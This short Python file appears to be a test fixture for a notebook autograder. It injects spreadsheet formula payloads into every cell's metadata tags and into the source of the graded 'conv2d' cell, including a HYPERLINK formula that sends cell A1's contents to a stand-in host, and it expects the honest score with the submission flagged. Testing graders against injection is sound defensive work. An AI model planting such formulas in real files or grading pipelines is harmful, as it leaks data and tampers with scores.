"""Puts formulas of spreadsheets wherever a text may reach the table of grades. Owed: the honest score, flagged."""

EARNS = 15
FLAGGED = True
RIGHT = True


def change(notebook):
    formula = '=HYPERLINK("http://x.example/?"&A1;"attack")'
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = [formula, ";" + formula, "\t@SUM(1)", "\n-1+1"]
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "conv2d":
            cell["source"] = f"raise type({formula!r}, (Exception,), {{}})({formula!r})"
    return notebook
